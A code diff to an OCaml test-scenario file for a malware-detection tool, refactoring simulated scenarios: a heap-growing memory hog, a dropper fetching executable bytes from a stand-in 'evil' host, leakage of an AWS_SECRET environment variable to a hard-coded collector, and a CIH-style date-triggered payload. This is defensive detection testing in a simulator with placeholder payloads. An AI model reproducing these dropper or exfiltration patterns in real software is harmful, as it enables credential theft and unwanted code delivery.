@@ -6,7 +6,7 @@ let medium = Scenario.Malicious Secpert.Severity.Medium
 let high = Scenario.Malicious Secpert.Severity.High
 
 (* ---------------- memory hog ---------------- *)
-let memhog_exe =
+let memhog_exe () =
   let u = create ~path:"/bin/memhog" ~kind:Binary.Image.Executable
       ~base:Common.exe_base ()
   in
@@ -29,10 +29,11 @@ let memhog_exe =
   finalize u
 
 let memhog =
-  Scenario.make ~name:"memory hog" ~group
+  Scenario.define ~name:"memory hog" ~group
     ~descr:"grows the heap by 128 KiB via brk (Vundo-style degradation)"
     ~expected:medium
-    (Hth.Session.setup ~programs:[ memhog_exe ] ~main:"/bin/memhog" ())
+  @@ fun () ->
+  Hth.Session.setup ~programs:[ memhog_exe () ] ~main:"/bin/memhog" ()
 
 (* ---------------- network dropper with user-named everything -------- *)
 (* The user supplies both the host and the file name (wget-style), so
@@ -40,6 +41,7 @@ let memhog =
    arriving from the network tells a tool download from a drive-by
    executable drop. *)
 let stealth_dropper_exe =
+  Memo.once @@ fun () ->
   let u = create ~needed:[ Libc.path ] ~path:"/bin/getfile"
       ~kind:Binary.Image.Executable ~base:Common.exe_base ()
   in
@@ -76,41 +78,43 @@ let stealth_dropper_exe =
   finalize u
 
 let stealth_dropper =
-  Scenario.make ~name:"stealth dropper" ~group
+  Scenario.define ~name:"stealth dropper" ~group
     ~descr:"downloads MZ executable content into a user-named file — \
             caught only by content analysis"
     ~expected:high
-    (Hth.Session.setup ~programs:[ stealth_dropper_exe; Libc.image () ]
-       ~hosts:Common.all_hosts
-       ~servers:
-         [ fst Common.evil_host, 80,
-           { Osim.Net.actor_host = fst Common.evil_host;
-             script = [ Osim.Net.Send "MZ\144\000payload-bytes";
-                        Osim.Net.Close ] } ]
-       ~argv:[ "/bin/getfile"; "/home/user/tool.exe"; fst Common.evil_host ]
-       ~main:"/bin/getfile" ())
+  @@ fun () ->
+  Hth.Session.setup ~programs:[ stealth_dropper_exe (); Libc.image () ]
+    ~hosts:Common.all_hosts
+    ~servers:
+      [ fst Common.evil_host, 80,
+        { Osim.Net.actor_host = fst Common.evil_host;
+          script = [ Osim.Net.Send "MZ\144\000payload-bytes";
+                     Osim.Net.Close ] } ]
+    ~argv:[ "/bin/getfile"; "/home/user/tool.exe"; fst Common.evil_host ]
+    ~main:"/bin/getfile" ()
 
 (* the same download of plain text stays benign *)
 let text_download =
-  Scenario.make ~name:"text download" ~group
+  Scenario.define ~name:"text download" ~group
     ~descr:"downloads plain text into a user-named file: benign"
     ~expected:Scenario.Benign
-    (Hth.Session.setup ~programs:[ stealth_dropper_exe; Libc.image () ]
-       ~hosts:Common.all_hosts
-       ~servers:
-         [ fst Common.evil_host, 80,
-           { Osim.Net.actor_host = fst Common.evil_host;
-             script = [ Osim.Net.Send "just some readme text";
-                        Osim.Net.Close ] } ]
-       ~argv:[ "/bin/getfile"; "/home/user/readme.txt";
-               fst Common.evil_host ]
-       ~main:"/bin/getfile" ())
+  @@ fun () ->
+  Hth.Session.setup ~programs:[ stealth_dropper_exe (); Libc.image () ]
+    ~hosts:Common.all_hosts
+    ~servers:
+      [ fst Common.evil_host, 80,
+        { Osim.Net.actor_host = fst Common.evil_host;
+          script = [ Osim.Net.Send "just some readme text";
+                     Osim.Net.Close ] } ]
+    ~argv:[ "/bin/getfile"; "/home/user/readme.txt";
+            fst Common.evil_host ]
+    ~main:"/bin/getfile" ()
 
 (* ---------------- environment-variable exfiltration ----------------- *)
 (* Environment strings live on the initial stack (USER_INPUT, Section
    7.3.3); leaking one to a hard-coded collector is the PWSteal pattern
    via a different channel. *)
-let envleak_exe =
+let envleak_exe () =
   let u = create ~path:"/bin/envleak" ~kind:Binary.Image.Executable
       ~base:Common.exe_base ()
   in
@@ -132,15 +136,16 @@ let envleak_exe =
   finalize u
 
 let envleak =
-  Scenario.make ~name:"env exfiltration" ~group
+  Scenario.define ~name:"env exfiltration" ~group
     ~descr:"sends an environment variable to a hard-coded collector"
     ~expected:(Scenario.Malicious Secpert.Severity.Low)
-    (Hth.Session.setup ~programs:[ envleak_exe ] ~hosts:Common.all_hosts
-       ~env:[ "AWS_SECRET=hunter2"; "PATH=/usr/bin" ]
-       ~servers:
-         [ fst Common.evil_host, 80,
-           { Osim.Net.actor_host = fst Common.evil_host; script = [] } ]
-       ~main:"/bin/envleak" ())
+  @@ fun () ->
+  Hth.Session.setup ~programs:[ envleak_exe () ] ~hosts:Common.all_hosts
+    ~env:[ "AWS_SECRET=hunter2"; "PATH=/usr/bin" ]
+    ~servers:
+      [ fst Common.evil_host, 80,
+        { Osim.Net.actor_host = fst Common.evil_host; script = [] } ]
+    ~main:"/bin/envleak" ()
 
 (* ---------------- CIH-style date trigger ---------------------------- *)
 (* The CIH/Chernobyl virus triggers only on specific dates (CERT
@@ -148,7 +153,7 @@ let envleak =
    gated on the system clock: the trigger block runs once, late — the
    basic-block frequency machinery marks the warning "rarely
    executed". *)
-let cih_exe =
+let cih_exe () =
   let u = create ~path:"/bin/cih" ~kind:Binary.Image.Executable
       ~base:Common.exe_base ()
   in
@@ -173,11 +178,12 @@ let cih_exe =
   finalize u
 
 let cih =
-  Scenario.make ~name:"CIH date trigger" ~group
+  Scenario.define ~name:"CIH date trigger" ~group
     ~descr:"payload gated on the clock; fires once, late — the warning             carries the rarely-executed note"
     ~expected:(Scenario.Malicious Secpert.Severity.High)
-    (Hth.Session.setup ~programs:[ cih_exe ] ~max_ticks:100_000
-       ~main:"/bin/cih" ())
+  @@ fun () ->
+  Hth.Session.setup ~programs:[ cih_exe () ] ~max_ticks:100_000
+    ~main:"/bin/cih" ()
 
 let scenarios =
   [ memhog; stealth_dropper; text_download; envleak; cih ]
